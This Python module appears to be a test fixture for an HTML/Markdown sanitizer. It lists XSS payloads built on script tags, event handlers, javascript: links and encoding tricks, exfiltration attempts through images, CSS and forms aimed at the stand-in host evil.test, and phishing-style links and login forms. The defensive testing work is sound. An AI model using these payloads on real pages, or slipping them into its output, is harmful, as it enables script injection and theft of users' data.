"""What a hostile model, tool or file could say. Each would do something in a page that is not careful.

`window.hacked` is set by whatever runs; evil.test is asked by whatever fetches.
"""

RUN = "window.hacked=1"
AWAY = "http://evil.test/stolen"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>click</math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<body onload={RUN}>",
    f"</textarea></title></style></script></template><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"{{{{ {RUN} }}}} ${{{RUN}}} {{% raw %}}<script>{RUN}</script>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<base href='{AWAY}/'><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
)
LINKS = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java&#115;cript:{RUN})",
    f"[click](&#x6A;avascript:{RUN})",
    f"[click](\x01javascript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    f"[click](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"[click][ref]\n\n[ref]: javascript:{RUN} 'title'",
    f'[click](http://evil.test "\\" onmouseover={RUN} x=\\"")',
    f"[click](http://evil.test/' onmouseover='{RUN})",
    f'[a](<http://evil.test/"onmouseover={RUN}>)',
    "[your bank](https://bank.example@evil.test/)",
    "[relative](/login?code=x) [fragment](#main) [other](//evil.test/x)",
)
FETCHES = (
    f"![]({AWAY}?words=secret)",
    f"![x][pic]\n\n[pic]: {AWAY}",
    f"[![badge]({AWAY}.svg)](http://evil.test)",
    f"<img src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}><link rel=dns-prefetch href=//evil.test>",
    f"<style>@import '{AWAY}'; body {{ background: url({AWAY}) }}</style>",
    f"<div style='background:url({AWAY})'>x</div>",
    f"<video src={AWAY} poster={AWAY} autoplay></video><audio src={AWAY} autoplay></audio>",
    f"<svg><image href='{AWAY}'/><use href='{AWAY}#x'/></svg>",
    f"<iframe src={AWAY}></iframe><embed src={AWAY}>",
    f"<table background={AWAY}><tr><td background={AWAY}>x</table>",
    f"<form action={AWAY}><input name=x><button>Log in again</button></form>",
)
NESTED = (
    f"````\n```\n````\n<script>{RUN}</script>",
    f'```html"><script>{RUN}</script>\ncode\n```',
    f"> - ```\n> <script>{RUN}</script>",
    f"| <script>{RUN}</script> | ![]({AWAY}) |\n|:-:|--:|\n| `<img src=x onerror={RUN}>` | [x](javascript:{RUN}) |",
    "`" * 3 + "\x00\u202e\u2066<script>",
    "*" * 50 + "[" * 200 + "]" * 200,
)
CORPUS = (*SCRIPTS, *LINKS, *FETCHES, *NESTED)
WHOLE = "\n\n".join(CORPUS)
